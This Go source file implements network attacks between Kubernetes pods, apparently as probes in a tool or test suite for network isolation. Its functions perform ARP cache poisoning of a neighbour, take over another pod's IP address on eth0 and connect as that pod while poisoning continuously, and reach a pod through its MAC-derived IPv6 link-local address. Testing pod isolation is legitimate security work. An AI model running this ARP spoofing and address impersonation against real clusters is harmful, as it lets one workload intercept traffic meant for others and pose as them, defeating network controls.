package main

import (
	"errors"
	"fmt"
	"net"
	"strings"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// poison tells a neighbour, for a while, that an address of another Pod is here.
func poison(args []string) (string, error) {
	address, victim := net.ParseIP(args[0]), net.ParseIP(args[1])
	mac, err := macOf(victim)
	if err != nil {
		return "", err
	}
	w, err := open(arpFrame)
	if err != nil {
		return "", err
	}
	defer unix.Close(w.socket)
	for range 20 {
		for _, operation := range []byte{2, 1} { // as an answer, and as a question
			if err := w.send(mac, arpFrame, arp(operation, w.mac, address, mac, victim)); err != nil {
				return "", err
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
	return fmt.Sprintf("told %s that %s is at %s", victim, address, w.mac), nil
}

// impersonate takes the address of another Pod, tells the target so, and connects.
func impersonate(args []string) (string, error) {
	address := net.ParseIP(args[0])
	target, err := net.ResolveTCPAddr("tcp4", args[1])
	if err != nil {
		return "", err
	}
	link, err := netlink.LinkByName("eth0")
	if err != nil {
		return "", err
	}
	if err := netlink.AddrAdd(link, single(address)); err != nil && !errors.Is(err, unix.EEXIST) {
		return "", fmt.Errorf("take the address %s: %w", address, err)
	}
	go func() { // as long as it takes: the Pod of that address goes on to answer, too
		for err := error(nil); err == nil; {
			_, err = poison([]string{args[0], target.IP.String()})
		}
	}()
	time.Sleep(200 * time.Millisecond)
	conn, err := (&net.Dialer{Timeout: limit, LocalAddr: &net.TCPAddr{IP: address}}).Dial("tcp4", args[1])
	if err != nil {
		return "", err
	}
	defer conn.Close()
	return "connected as " + conn.LocalAddr().String(), nil
}

// forget gives an address back.
func forget(args []string) (string, error) {
	link, err := netlink.LinkByName("eth0")
	if err != nil {
		return "", err
	}
	return "", netlink.AddrDel(link, single(net.ParseIP(args[0])))
}

func single(address net.IP) *netlink.Addr {
	return &netlink.Addr{IPNet: &net.IPNet{IP: address, Mask: net.CIDRMask(32, 32)}}
}

// linkLocal connects to the IPv6 address that the interface of a Pod has given itself, which
// follows from its hardware address.
func linkLocal(args []string) (string, error) {
	target := net.ParseIP(args[0])
	if conn, err := net.DialTimeout("udp4", net.JoinHostPort(args[0], "9"), limit); err == nil {
		conn.Write([]byte("?")) // so that the kernel asks for the hardware address
		conn.Close()
	}
	time.Sleep(100 * time.Millisecond)
	all, err := netlink.NeighList(0, netlink.FAMILY_V4)
	if err != nil {
		return "", err
	}
	for _, n := range all {
		if !n.IP.Equal(target) || len(n.HardwareAddr) != 6 {
			continue
		}
		m := n.HardwareAddr
		ip := net.IP{0xfe, 0x80, 0, 0, 0, 0, 0, 0, m[0] ^ 2, m[1], m[2], 0xff, 0xfe, m[3], m[4], m[5]}
		said, err := connect([]string{"tcp6", net.JoinHostPort(ip.String()+"%eth0", args[1])})
		return strings.TrimSpace(ip.String() + " " + said), err
	}
	return "", fmt.Errorf("the hardware address of %s is not known", target)
}
